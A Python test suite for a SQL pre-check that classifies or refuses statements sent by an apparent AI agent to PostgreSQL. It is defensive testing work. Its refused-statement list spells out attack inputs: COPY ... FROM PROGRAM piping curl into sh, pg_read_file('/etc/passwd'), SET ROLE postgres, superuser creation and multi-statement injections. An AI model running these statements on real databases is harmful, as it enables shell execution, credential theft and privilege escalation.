"""The pglast pre-check that classifies (or refuses) each statement before it reaches the server."""

from __future__ import annotations

import dataclasses
import pickle

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agentpg.access.classify import (
    MAX_STATEMENT_BYTES,
    Classification,
    RejectedStatement,
    StatementKind,
    classify,
    normalize_for_audit,
)

READ, WRITE, DDL, OTHER = StatementKind.READ, StatementKind.WRITE, StatementKind.DDL, StatementKind.OTHER


def rejected(sql: str) -> RejectedStatement:
    with pytest.raises(RejectedStatement) as info:
        classify(sql)
    return info.value


# ---------------------------------------------------------------------------------------------
# Known bypass attempts and refused statements: (sql, reason)
# ---------------------------------------------------------------------------------------------

REFUSED = [
    # one statement per call
    ("SELECT 1; COMMIT; DROP TABLE t", "multiple_statements"),
    ("select 1; select 2", "multiple_statements"),
    ("select 1;;select 2", "multiple_statements"),
    ("SELECT ';'; DROP TABLE t", "multiple_statements"),
    # transaction control
    ("BEGIN", "transaction_control"),
    ("begin isolation level serializable", "transaction_control"),
    ("START TRANSACTION READ WRITE", "transaction_control"),
    ("COMMIT", "transaction_control"),
    ("commit and chain", "transaction_control"),
    ("END", "transaction_control"),
    ("ROLLBACK", "transaction_control"),
    ("ABORT", "transaction_control"),
    ("SAVEPOINT s", "transaction_control"),
    ("RELEASE SAVEPOINT s", "transaction_control"),
    ("ROLLBACK TO SAVEPOINT s", "transaction_control"),
    ("PREPARE TRANSACTION 'x'", "transaction_control"),
    ("COMMIT PREPARED 'x'", "transaction_control"),
    ("ROLLBACK PREPARED 'x'", "transaction_control"),
    ("SET TRANSACTION READ WRITE", "transaction_control"),
    ("set transaction isolation level read committed", "transaction_control"),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "transaction_control"),
    ("SET default_transaction_read_only = off", "session_state"),
    ("set transaction_read_only to off", "transaction_control"),
    ("SET CONSTRAINTS ALL DEFERRED", "transaction_control"),
    # session state
    ("SET ROLE postgres", "session_state"),
    ("set role none", "session_state"),
    ("SET SESSION AUTHORIZATION postgres", "session_state"),
    ("SET SESSION AUTHORIZATION DEFAULT", "session_state"),
    ("RESET ROLE", "session_state"),
    ("RESET SESSION AUTHORIZATION", "session_state"),
    ("RESET ALL", "session_state"),
    ("SET search_path = public, evil", "session_state"),
    ("set local statement_timeout = 0", "session_state"),
    ("SET statement_timeout TO DEFAULT", "session_state"),
    ("SET TIME ZONE 'UTC'", "session_state"),
    ("DISCARD ALL", "session_state"),
    ("PREPARE p AS SELECT 1", "session_state"),
    ("EXECUTE p", "session_state"),
    ("DEALLOCATE ALL", "session_state"),
    ("DECLARE c CURSOR FOR SELECT 1", "cursor"),
    ("FETCH 10 FROM c", "cursor"),
    ("CLOSE c", "cursor"),
    # forbidden functions, anywhere in the tree
    ("SELECT set_config('default_transaction_read_only','off',false)", "forbidden_function"),
    ("select pg_catalog.set_config('role', 'postgres', true)", "forbidden_function"),
    ("select SET_CONFIG('a', 'b', false)", "forbidden_function"),
    ('select "set_config"(\'a\', \'b\', false)', "forbidden_function"),
    ("SELECT * FROM pg_read_file('/etc/passwd')", "forbidden_function"),
    ("select pg_read_binary_file('/etc/passwd')", "forbidden_function"),
    ("select * from pg_ls_dir('.')", "forbidden_function"),
    ("select pg_ls_waldir()", "forbidden_function"),
    ("select pg_stat_file('postgresql.conf')", "forbidden_function"),
    ("select lo_import('/etc/passwd')", "forbidden_function"),
    ("select lo_export(1, '/tmp/x')", "forbidden_function"),
    ("select pg_terminate_backend(1)", "forbidden_function"),
    ("select pg_cancel_backend(1)", "forbidden_function"),
    ("select pg_reload_conf()", "forbidden_function"),
    ("select pg_rotate_logfile()", "forbidden_function"),
    ("select pg_notify('c', 'x')", "forbidden_function"),
    ("SELECT * FROM dblink('x','y') AS t(a int)", "forbidden_function"),
    ("select public.dblink_exec('x', 'drop table t')", "forbidden_function"),
    ("select dblink_connect('x')", "forbidden_function"),
    ("select pg_advisory_lock(1)", "forbidden_function"),
    ("select pg_advisory_lock_shared(1)", "forbidden_function"),
    ("select pg_try_advisory_lock(1)", "forbidden_function"),
    ("select pg_advisory_unlock_all()", "forbidden_function"),
    ("select * from t where a = (select set_config('a','b',false))", "forbidden_function"),
    ("with x as (select pg_read_file('/etc/passwd')) select * from x", "forbidden_function"),
    ("select * from (select * from (select lo_import('/etc/passwd')) a) b", "forbidden_function"),
    ("select 1 union select length(pg_read_file('/etc/passwd'))", "forbidden_function"),
    ("select * from rows from (pg_ls_dir('.'))", "forbidden_function"),
    ("select case when true then pg_reload_conf() end", "forbidden_function"),
    ("insert into t select pg_read_file('/etc/passwd')", "forbidden_function"),
    ("update t set a = set_config('a', 'b', false)", "forbidden_function"),
    ("create table t (a text default pg_read_file('/etc/passwd'))", "forbidden_function"),
    ("create view v as select pg_read_file('/etc/passwd')", "forbidden_function"),
    ("explain select pg_read_file('/etc/passwd')", "forbidden_function"),
    ("call pg_catalog.set_config('a', 'b', false)", "forbidden_function"),
    ("create operator === (function = pg_catalog.pg_read_file, rightarg = text)", "forbidden_function"),
    ("create aggregate a(text) (sfunc = set_config, stype = text)", "forbidden_function"),
    (
        "create function f() returns text language sql as $$ select pg_read_file('/etc/passwd') $$",
        "forbidden_function",
    ),
    (
        "create function f() returns text language sql begin atomic select pg_read_file('x'); end",
        "forbidden_function",
    ),
    # COPY in every form
    ("COPY t TO PROGRAM 'id'", "copy_program"),
    ("copy t from program 'curl http://x | sh'", "copy_program"),
    ("COPY (select 1) TO PROGRAM 'id'", "copy_program"),
    ("COPY t TO '/tmp/t.csv'", "copy_file"),
    ("copy t from '/etc/passwd'", "copy_file"),
    ("COPY t TO STDOUT", "copy_stream"),
    ("COPY t FROM STDIN", "copy_stream"),
    ("copy (select * from t) to stdout with (format csv)", "copy_stream"),
    # server administration
    ("ALTER SYSTEM SET fsync = off", "server_admin"),
    ("ALTER SYSTEM RESET ALL", "server_admin"),
    ("LOAD 'evil'", "server_admin"),
    ("CHECKPOINT", "server_admin"),
    # roles, ownership
    ("CREATE ROLE r", "role_management"),
    ("CREATE USER u PASSWORD 'x' SUPERUSER", "role_management"),
    ("create group g", "role_management"),
    ("ALTER ROLE r SUPERUSER", "role_management"),
    ("alter user u password 'x'", "role_management"),
    ("ALTER ROLE r SET search_path = x", "role_management"),
    ("DROP ROLE r", "role_management"),
    ("drop user if exists u", "role_management"),
    ("GRANT pg_read_server_files TO me", "role_management"),
    ("grant postgres to me with admin option", "role_management"),
    ("REVOKE r FROM u", "role_management"),
    ("REASSIGN OWNED BY a TO b", "role_management"),
    ("DROP OWNED BY a", "role_management"),
    ("ALTER ROLE r RENAME TO q", "role_management"),
    ("ALTER TABLE t OWNER TO bob", "ownership_change"),
    ("ALTER SCHEMA s OWNER TO bob", "ownership_change"),
    ("ALTER FUNCTION f() OWNER TO bob", "ownership_change"),
    ("alter type ty owner to bob", "ownership_change"),
    ("alter view v owner to bob", "ownership_change"),
    # databases, tablespaces
    ("CREATE DATABASE d", "database_management"),
    ("DROP DATABASE d", "database_management"),
    ("ALTER DATABASE d CONNECTION LIMIT 1", "database_management"),
    ("ALTER DATABASE d SET default_transaction_read_only = off", "database_management"),
    ("ALTER DATABASE d RENAME TO e", "database_management"),
    ("CREATE TABLESPACE ts LOCATION '/tmp'", "tablespace_management"),
    ("DROP TABLESPACE ts", "tablespace_management"),
    ("ALTER TABLESPACE ts RENAME TO u", "tablespace_management"),
    # extensions, languages, foreign data
    ("ALTER EXTENSION e UPDATE", "extension_management"),
    ("alter extension e set schema s", "extension_management"),
    ("DROP EXTENSION e", "extension_management"),
    ("CREATE LANGUAGE plsample HANDLER plsample_call_handler", "language_management"),
    ("DROP LANGUAGE plperlu", "language_management"),
    ("CREATE FOREIGN DATA WRAPPER w", "foreign_data_management"),
    ("CREATE SERVER s FOREIGN DATA WRAPPER w", "foreign_data_management"),
    ("ALTER SERVER s OPTIONS (host 'x')", "foreign_data_management"),
    ("DROP SERVER s", "foreign_data_management"),
    ("CREATE USER MAPPING FOR me SERVER s OPTIONS (user 'postgres')", "foreign_data_management"),
    ("DROP USER MAPPING FOR me SERVER s", "foreign_data_management"),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x", "foreign_data_management"),
    ("CREATE PUBLICATION p FOR ALL TABLES", "replication"),
    ("CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p", "replication"),
    # notifications, anonymous code, event triggers
    ("LISTEN c", "notifications"),
    ("NOTIFY c, 'x'", "notifications"),
    ("UNLISTEN *", "notifications"),
    ("DO $$ BEGIN END $$", "anonymous_code"),
    ("do language plpgsql $$ begin perform 1; end $$", "anonymous_code"),
    ("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", "event_trigger"),
    ("ALTER EVENT TRIGGER e DISABLE", "event_trigger"),
    ("DROP EVENT TRIGGER e", "event_trigger"),
    # functions
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'", "untrusted_language"),
    ("create function f() returns int language c as 'lib', 'sym'", "untrusted_language"),
    ("create function f() returns int language internal as 'int4in'", "untrusted_language"),
    ("create or replace procedure p() language plperl as 'return;'", "untrusted_language"),
    ("create function f() returns int language 'PLPYTHON3U' as 'return 1'", "untrusted_language"),
    (
        "create function f() returns int language plpgsql security definer as 'begin return 1; end'",
        "security_definer",
    ),
    ("create function f() returns int security definer language sql as 'select 1'", "security_definer"),
    ("ALTER FUNCTION f() SECURITY DEFINER", "security_definer"),
    ("alter procedure p() external security definer", "security_definer"),
    ("alter routine r() security definer", "security_definer"),
    # maintenance
    ("VACUUM FULL t", "vacuum_full"),
    ("vacuum (full, analyze) t", "vacuum_full"),
    ("vacuum (full true) t", "vacuum_full"),
    ("REINDEX SYSTEM x", "reindex_scope"),
    ("REINDEX DATABASE x", "reindex_scope"),
    # refused statements nested inside allowed ones
    ("CREATE TABLE x AS EXECUTE p", "session_state"),
    ("explain analyze execute p", "session_state"),
    ("create rule r as on insert to t do also notify c", "notifications"),
    ("explain analyze copy t to stdout", "syntax_error"),
    # statement kinds agentpg does not offer
    ("SECURITY LABEL ON TABLE t IS 'x'", "unsupported_statement"),
    ("CREATE ACCESS METHOD am TYPE TABLE HANDLER h", "unsupported_statement"),
    ("CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION f(internal))", "unsupported_statement"),
    # empty and broken input
    ("", "empty_statement"),
    ("   \n\t  ", "empty_statement"),
    ("-- only a comment", "empty_statement"),
    ("/* only a comment */", "empty_statement"),
    (";", "empty_statement"),
    (" ; ; ", "empty_statement"),
    ("selec 1", "syntax_error"),
    ("select * from", "syntax_error"),
    ("select 'unterminated", "syntax_error"),
    ("select 1 /* unterminated", "syntax_error"),
    ("select $$x", "syntax_error"),
    ("SELECT 1\x00; DROP TABLE t", "nul_byte"),
    ("\x00", "nul_byte"),
    ("select '\ud800'", "invalid_text"),
]


@pytest.mark.parametrize(("sql", "name"), [("CREATE EXTENSION dblink", "dblink"),
                                         ("create extension if not exists postgres_fdw", "postgres_fdw"),
                                         ("CREATE LANGUAGE plperlu", "plperlu"),  # Postgres parses it so
                                         ("CREATE EXTENSION vector SCHEMA public", "vector")])
def test_create_extension_is_passed_to_agentpg(sql: str, name: str) -> None:
    """Never run as the agent: the service installs an allowed one as its admin, or refuses naming the list
    (tests/test_extensions.py)."""
    c = classify(sql)
    assert (c.extension, c.command, c.kind) == (name, "CREATE EXTENSION", StatementKind.DDL)


@pytest.mark.parametrize("sql", ["CREATE EXTENSION vector SCHEMA agentpg_internal",
                                 "CREATE EXTENSION vector VERSION '0.1'", "CREATE EXTENSION earthdistance CASCADE"])
def test_create_extension_options_are_refused(sql: str) -> None:
    assert rejected(sql).reason == "extension_option"


@pytest.mark.parametrize(("sql", "reason"), REFUSED)
def test_refused(sql: str, reason: str) -> None:
    exc = rejected(sql)
    assert exc.reason == reason
    assert isinstance(exc, ValueError)
    message = str(exc)
    assert message == exc.message
    assert len(message) > 20 and message[0].isupper() and message.endswith(".")


# ---------------------------------------------------------------------------------------------
# Accepted statements: (sql, kind, command, tables_read, tables_written, creates_table, drops_table)
# ---------------------------------------------------------------------------------------------

ACCEPTED = [
    ("select 1", READ, "SELECT", set(), set(), False, False),
    ("SELECT ';'", READ, "SELECT", set(), set(), False, False),
    ("select 1;", READ, "SELECT", set(), set(), False, False),
    ("select 1 ; ", READ, "SELECT", set(), set(), False, False),
    ("select 1 /* ; drop table t */", READ, "SELECT", set(), set(), False, False),
    ("select 1 -- ; drop table t", READ, "SELECT", set(), set(), False, False),
    ("select $$;drop table t;$$", READ, "SELECT", set(), set(), False, False),
    ('select 1 as ";"', READ, "SELECT", set(), set(), False, False),
    ("select * from t where id = $1", READ, "SELECT", {"t"}, set(), False, False),
    ("SELECT * FROM T", READ, "SELECT", {"t"}, set(), False, False),
    ('SELECT * FROM "Foo".Bar', READ, "SELECT", {"Foo.bar"}, set(), False, False),
    ("select * from db.s.t", READ, "SELECT", {"db.s.t"}, set(), False, False),
    ('SELECT * FROM "Ünïcødé" u JOIN ÜBER ON true', READ, "SELECT", {"Ünïcødé", "Über"}, set(), False, False),
    ("select * from таблица", READ, "SELECT", {"таблица"}, set(), False, False),
    ("select '日本語' as 列", READ, "SELECT", set(), set(), False, False),
    ("select a.x, b.y from a join s.b on a.id = b.id", READ, "SELECT", {"a", "s.b"}, set(), False, False),
    ("select * from a where id in (select id from b)", READ, "SELECT", {"a", "b"}, set(), False, False),
    ("with x as (select * from a) select * from x", READ, "SELECT", {"a"}, set(), False, False),
    ("select 1 union all select 2 from b", READ, "SELECT", {"b"}, set(), False, False),
    ("values (1), (2)", READ, "VALUES", set(), set(), False, False),
    ("TABLE t", READ, "SELECT", {"t"}, set(), False, False),
    ("select now(), random(), pg_sleep(0)", READ, "SELECT", set(), set(), False, False),
    ("select current_setting('search_path')", READ, "SELECT", set(), set(), False, False),
    ("select pg_advisory_xact_lock(1)", READ, "SELECT", set(), set(), False, False),
    ("select pg_try_advisory_xact_lock_shared(1)", READ, "SELECT", set(), set(), False, False),
    ("select my_schema.my_function(1)", READ, "SELECT", set(), set(), False, False),
    ("select e'\\x41', x'ff', b'01', U&'\\0041', 1.5e3", READ, "SELECT", set(), set(), False, False),
    # writes hidden in a read
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", WRITE, "SELECT", set(), {"t"}, False, False),
    (
        "with i as (insert into s.log (a) select a from src returning *) select count(*) from i",
        WRITE, "SELECT", {"src"}, {"s.log"}, False, False,
    ),
    (
        "with u as (update t set a = 1 returning *) select * from u join other using (id)",
        WRITE, "SELECT", {"other"}, {"t"}, False, False,
    ),
    ("select * into newt from a", WRITE, "SELECT INTO", {"a"}, {"newt"}, True, False),
    ("select 1 into temp tmp", WRITE, "SELECT INTO", set(), {"tmp"}, True, False),
    ("select * from a for update", WRITE, "SELECT", {"a"}, set(), False, False),
    ("select * from a for share skip locked", WRITE, "SELECT", {"a"}, set(), False, False),
    ("select * from a where exists (select 1 from b for no key update)", WRITE, "SELECT", {"a", "b"}, set(),
     False, False),
    ("select nextval('s')", WRITE, "SELECT", set(), set(), False, False),
    ("select pg_catalog.setval('s', 10)", WRITE, "SELECT", set(), set(), False, False),
    # plain writes
    ("insert into t (a) values (1)", WRITE, "INSERT", set(), {"t"}, False, False),
    ("insert into s.t select * from u on conflict do nothing", WRITE, "INSERT", {"u"}, {"s.t"}, False, False),
    ("update t set a = 1 from u where t.id = u.id", WRITE, "UPDATE", {"u"}, {"t"}, False, False),
    ("delete from t using u where t.id = u.id returning *", WRITE, "DELETE", {"u"}, {"t"}, False, False),
    ("merge into t using s on t.a = s.a when matched then delete", WRITE, "MERGE", {"s"}, {"t"}, False, False),
    ("truncate a, s.b", WRITE, "TRUNCATE", set(), {"a", "s.b"}, False, False),
    ("truncate table t restart identity cascade", WRITE, "TRUNCATE", set(), {"t"}, False, False),
    ("lock table a in share mode", WRITE, "LOCK", set(), {"a"}, False, False),
    ("call p(1)", WRITE, "CALL", set(), set(), False, False),
    # EXPLAIN
    ("explain select * from a", OTHER, "EXPLAIN", {"a"}, set(), False, False),
    ("explain delete from t", OTHER, "EXPLAIN", {"t"}, set(), False, False),
    ("explain (analyze false) delete from t", OTHER, "EXPLAIN", {"t"}, set(), False, False),
    ("explain analyze select * from a", OTHER, "EXPLAIN ANALYZE", {"a"}, set(), False, False),
    ("explain (analyze, buffers, format json) select 1", OTHER, "EXPLAIN ANALYZE", set(), set(), False, False),
    ("explain analyze delete from t", WRITE, "EXPLAIN ANALYZE DELETE", set(), {"t"}, False, False),
    ("explain (analyze on) insert into t values (1)", WRITE, "EXPLAIN ANALYZE INSERT", set(), {"t"}, False,
     False),
    ("explain analyse update t set a = 1", WRITE, "EXPLAIN ANALYZE UPDATE", set(), {"t"}, False, False),
    (
        "explain analyze with d as (delete from t returning *) select * from d",
        WRITE, "EXPLAIN ANALYZE SELECT", set(), {"t"}, False, False,
    ),
    ("explain analyze create table z as select 1", DDL, "EXPLAIN ANALYZE CREATE TABLE AS", set(), {"z"}, True,
     False),
    # other allowed utilities
    ("show search_path", OTHER, "SHOW", set(), set(), False, False),
    ("SHOW ALL", OTHER, "SHOW", set(), set(), False, False),
    ("vacuum", OTHER, "VACUUM", set(), set(), False, False),
    ("vacuum analyze a", OTHER, "VACUUM", {"a"}, set(), False, False),
    ("vacuum (full false) a", OTHER, "VACUUM", {"a"}, set(), False, False),
    ("analyze a", OTHER, "ANALYZE", {"a"}, set(), False, False),
    ("reindex table t", OTHER, "REINDEX", {"t"}, set(), False, False),
    ("reindex index i", OTHER, "REINDEX", {"i"}, set(), False, False),
    ("cluster t using i", OTHER, "CLUSTER", {"t"}, set(), False, False),
    # DDL
    ("create table t (a int)", DDL, "CREATE TABLE", set(), {"t"}, True, False),
    ('create table "Foo".Bar (a int references other(id))', DDL, "CREATE TABLE", {"other"}, {"Foo.bar"}, True,
     False),
    ("create temp table t (like u)", DDL, "CREATE TABLE", {"u"}, {"t"}, True, False),
    ("create table p1 partition of p for values in (1)", DDL, "CREATE TABLE", {"p"}, {"p1"}, True, False),
    ("create table x as select * from y", DDL, "CREATE TABLE AS", {"y"}, {"x"}, True, False),
    ("create table x as select nextval('s')", DDL, "CREATE TABLE AS", set(), {"x"}, True, False),
    ("create materialized view m as select * from y", DDL, "CREATE MATERIALIZED VIEW", {"y"}, {"m"}, True,
     False),
    ("create view v as select * from y", DDL, "CREATE VIEW", {"y"}, {"v"}, False, False),
    ("create or replace view s.v as select 1", DDL, "CREATE VIEW", set(), {"s.v"}, False, False),
    ("create index on t (a)", DDL, "CREATE INDEX", set(), {"t"}, False, False),
    ("create unique index concurrently i on s.t (lower(a))", DDL, "CREATE INDEX", set(), {"s.t"}, False, False),
    ("create sequence s", DDL, "CREATE SEQUENCE", set(), {"s"}, False, False),
    ("alter sequence s restart", DDL, "ALTER SEQUENCE", set(), {"s"}, False, False),
    ("create type ty as (a int)", DDL, "CREATE TYPE", set(), {"ty"}, False, False),
    ("create type mood as enum ('sad', 'ok')", DDL, "CREATE TYPE", set(), set(), False, False),
    ("alter type mood add value 'happy'", DDL, "ALTER TYPE", set(), set(), False, False),
    ("create domain d as int check (value > 0)", DDL, "CREATE DOMAIN", set(), set(), False, False),
    ("create schema s", DDL, "CREATE SCHEMA", set(), set(), False, False),
    ("create schema if not exists s authorization current_role", DDL, "CREATE SCHEMA", set(), set(), False,
     False),
    ("create schema s create table t (a int) create view v as select 1", DDL, "CREATE SCHEMA", set(),
     {"t", "v"}, True, False),
    ("create function f() returns int language sql as 'select 1'", DDL, "CREATE FUNCTION", set(), set(), False,
     False),
    ("create function f() returns int as $$ select 1 $$", DDL, "CREATE FUNCTION", set(), set(), False, False),
    ("create function f(a int) returns int language SQL return a + 1", DDL, "CREATE FUNCTION", set(), set(),
     False, False),
    (
        "create or replace function f() returns trigger language plpgsql as $$ begin return new; end $$",
        DDL, "CREATE FUNCTION", set(), set(), False, False,
    ),
    ("create function f() returns int language sql security invoker as 'select 1'", DDL, "CREATE FUNCTION",
     set(), set(), False, False),
    ("create procedure p() language plpgsql as $$ begin end $$", DDL, "CREATE PROCEDURE", set(), set(), False,
     False),
    ("alter function f() stable", DDL, "ALTER FUNCTION", set(), set(), False, False),
    ("alter function f() security invoker", DDL, "ALTER FUNCTION", set(), set(), False, False),
    ("create trigger tr before insert on t for each row execute function f()", DDL, "CREATE TRIGGER", set(),
     {"t"}, False, False),
    ("create policy p on t using (true)", DDL, "CREATE POLICY", set(), {"t"}, False, False),
    ("create rule r as on insert to t do instead nothing", DDL, "CREATE RULE", set(), {"t"}, False, False),
    ("create aggregate a(int) (sfunc = int4pl, stype = int)", DDL, "CREATE AGGREGATE", set(), set(), False,
     False),
    ("alter table t add column b int", DDL, "ALTER TABLE", set(), {"t"}, False, False),
    ("alter table if exists s.t drop column b", DDL, "ALTER TABLE", set(), {"s.t"}, False, False),
    ("alter table t add foreign key (a) references u (id)", DDL, "ALTER TABLE", {"u"}, {"t"}, False, False),
    ("alter index i rename to j", DDL, "ALTER INDEX", set(), {"i"}, False, False),
    ("alter table t rename to u", DDL, "ALTER TABLE", set(), {"t"}, False, False),
    ("alter table t rename column a to b", DDL, "ALTER TABLE", set(), {"t"}, False, False),
    ("alter table t set schema archive", DDL, "ALTER TABLE", set(), {"t"}, False, False),
    ("alter schema s rename to r", DDL, "ALTER SCHEMA", set(), set(), False, False),
    ("drop table t", DDL, "DROP TABLE", set(), {"t"}, False, True),
    ("drop table if exists a.b, c cascade", DDL, "DROP TABLE", set(), {"a.b", "c"}, False, True),
    ("drop materialized view m", DDL, "DROP MATERIALIZED VIEW", set(), {"m"}, False, True),
    ("drop view v", DDL, "DROP VIEW", set(), {"v"}, False, False),
    ("drop view v cascade", DDL, "DROP VIEW", set(), {"v"}, False, True),
    ("drop index i", DDL, "DROP INDEX", set(), {"i"}, False, False),
    ("drop schema s cascade", DDL, "DROP SCHEMA", set(), set(), False, True),
    ("drop function f(int)", DDL, "DROP FUNCTION", set(), set(), False, False),
    ("drop type mood", DDL, "DROP TYPE", set(), set(), False, False),
    ("comment on table t is 'x'", DDL, "COMMENT", set(), set(), False, False),
    ("refresh materialized view concurrently m", DDL, "REFRESH MATERIALIZED VIEW", set(), {"m"}, False, False),
    ("grant select on t to bob", DDL, "GRANT", {"t"}, set(), False, False),
    ("grant usage on schema s to bob", DDL, "GRANT", set(), set(), False, False),
    ("revoke all on all tables in schema s from public", DDL, "REVOKE", set(), set(), False, False),
    ("alter default privileges grant select on tables to bob", DDL, "ALTER DEFAULT PRIVILEGES", set(), set(),
     False, False),
    ("create statistics st on a, b from t", DDL, "CREATE STATISTICS", set(), {"t"}, False, False),
    ("alter table t rename constraint c to d", DDL, "ALTER TABLE", set(), {"t"}, False, False),
    ("alter domain d rename constraint c to e", DDL, "ALTER DOMAIN", set(), set(), False, False),
    ("alter view v rename column a to b", DDL, "ALTER VIEW", set(), {"v"}, False, False),
    ("alter type ty rename attribute a to b", DDL, "ALTER TYPE", set(), {"ty"}, False, False),
    ("alter trigger tr on t rename to tr2", DDL, "ALTER TRIGGER", set(), {"t"}, False, False),
]


@pytest.mark.parametrize(
    ("sql", "kind", "command", "read", "written", "creates", "drops"),
    ACCEPTED,
    ids=[case[0][:60] for case in ACCEPTED],
)
def test_accepted(
    sql: str, kind: StatementKind, command: str, read: set[str], written: set[str], creates: bool, drops: bool
) -> None:
    c = classify(sql)
    assert (c.kind, c.command) == (kind, command)
    assert c.tables_read == frozenset(read)
    assert c.tables_written == frozenset(written)
    assert (c.creates_table, c.drops_table) == (creates, drops)
    assert len(c.fingerprint) == 16 and int(c.fingerprint, 16) >= 0


def test_classification_is_frozen() -> None:
    c = classify("select 1")
    with pytest.raises(dataclasses.FrozenInstanceError):
        c.kind = StatementKind.WRITE  # type: ignore[misc]
    assert isinstance(c.tables_read, frozenset)
    assert StatementKind.READ.value == "read" and str(StatementKind.DDL) == "ddl"


def test_messages_are_actionable() -> None:
    assert "one statement per call" in str(rejected("SELECT 1; COMMIT; DROP TABLE t"))
    assert "own transaction" in str(rejected("COMMIT"))
    assert "SET ROLE" in str(rejected("SET ROLE postgres"))
    assert "empty statement" in str(rejected("  -- nothing "))
    assert "too large" in str(rejected("select 1" + " " * MAX_STATEMENT_BYTES))
    assert "set_config" in str(rejected("SELECT set_config('a','b',false)"))
    assert "plpython3u" in str(rejected("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'"))
    assert "shell command" in str(rejected("COPY t TO PROGRAM 'id'"))
    assert "INSERT" in str(rejected("COPY t FROM STDIN"))


def test_syntax_error_reports_pglast_message_and_position() -> None:
    message = str(rejected("select *\nfrom from"))
    assert 'syntax error at or near "from"' in message
    assert "character 15" in message and "line 2, column 6" in message
    # positions count characters, not UTF-8 bytes
    assert "at character 19 (line 1, column 19)" in str(rejected("select 'ééé' from from"))


def test_too_large() -> None:
    assert rejected("select '" + "x" * MAX_STATEMENT_BYTES + "'").reason == "statement_too_large"
    # the limit is in bytes: multi-byte characters count for more than one
    assert rejected("select '" + "é" * (MAX_STATEMENT_BYTES // 2) + "'").reason == "statement_too_large"
    classify("select '" + "x" * 1000 + "'")


@pytest.mark.parametrize(
    "sql",
    [
        "select " + "-".join(["1"] * 100_000),  # crashes pglast.parse_sql without the depth guard
        " union ".join(["select 1"] * 30_000),
        "select 1" + "::int" * 30_000,
        "select * from t" + " join t on true" * 30_000,
        "select " + "(" * 20_000 + "1" + ")" * 20_000,
    ],
    ids=["minus", "union", "cast", "join", "parens"],
)
def test_deeply_nested_statements_are_refused_not_crashing(sql: str) -> None:
    assert rejected(sql).reason == "too_complex"


def test_moderately_nested_statements_are_fine() -> None:
    assert classify("select " + " + ".join(["1"] * 1000)).kind is READ
    assert classify(" union all ".join(["select 1"] * 500)).kind is READ


def test_rejection_survives_pickling() -> None:
    exc = rejected("SET ROLE postgres")
    copy = pickle.loads(pickle.dumps(exc))  # noqa: S301 - our own bytes
    assert (copy.reason, str(copy)) == (exc.reason, str(exc))


def test_non_string_input() -> None:
    assert rejected(None).reason == "invalid_input"  # type: ignore[arg-type]


def test_fingerprint_is_literal_free_and_stable() -> None:
    one = classify("select * from t where id = 1")
    two = classify("SELECT *   FROM t WHERE id = 2")
    assert one.fingerprint == two.fingerprint
    assert classify("select * from u where id = 1").fingerprint != one.fingerprint
    assert classify("select * from t where id = 1 /* comment */").fingerprint == one.fingerprint


@pytest.mark.parametrize(
    "sql",
    [
        "select * from t where password = 'secret-value'",
        "insert into t values ($1, 'secret-value')",
        "update t set token = 'secret-value' where id = 3",
        "select $$secret-value$$, e'secret-value', U&'secret-value'",
        "select * from t /* secret-value */ where a = 1 -- secret-value",
        "CREATE USER u PASSWORD 'secret-value'",
        "create table t (a text default 'secret-value')",
        "comment on table t is 'secret-value'",
        "create view v as select 'secret-value' as a",
        "copy t from '/secret-value'",
        "create function f() returns text language sql as $x$ select 'secret-value' $x$",
        "selec 'secret-value'",  # not even valid SQL
        "select 'secret-value",  # not even lexable
        "select 1; select 'secret-value'",
        "select '\ud800secret-value'",
        "select 'secret-value'\x00",
    ],
)
def test_normalize_for_audit_hides_literals(sql: str) -> None:
    text = normalize_for_audit(sql)
    assert "secret-value" not in text
    assert text


def test_normalize_for_audit_shape() -> None:
    assert normalize_for_audit("select * from t where id = 1 and name = 'x'") == (
        "select * from t where id = $1 and name = $2"
    )
    assert normalize_for_audit("insert into t values ($1, 'x')") == "insert into t values ($1, $2)"
    assert normalize_for_audit("create table t (a text default 'x')") == "create table t (a text default $1)"
    assert normalize_for_audit("select 1 /* c */ + 2") == "select $1   + $2"


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=300))
def test_arbitrary_text_is_classified_or_refused(sql: str) -> None:
    try:
        result = classify(sql)
    except RejectedStatement as exc:
        assert exc.reason and str(exc)
    else:
        assert isinstance(result, Classification)
    assert isinstance(normalize_for_audit(sql), str)


SQLISH = st.lists(
    st.sampled_from([
        "select", "insert", "into", "delete", "from", "where", "with", "as", "(", ")", ";", ",", "*", "t",
        "'x'", "$$y$$", "1", "--c\n", "/*c*/", "set", "role", "begin", "commit", "copy", "to", "program",
        "returning", "update", "values", "union", "for", "explain", "analyze", "create", "table", "drop",
        "pg_read_file", "set_config", "dblink", "nextval", "=", "e'\\x00'", '"Q"', "\n", "do", "$1",
    ]),
    max_size=25,
).map(" ".join)


@settings(max_examples=400, deadline=None)
@given(SQLISH)
def test_sql_like_token_soup_is_classified_or_refused(sql: str) -> None:
    try:
        result = classify(sql)
    except RejectedStatement as exc:
        assert exc.reason
    else:
        assert isinstance(result.kind, StatementKind)
        assert "set_config (" not in sql  # always a call of a forbidden function when it parses
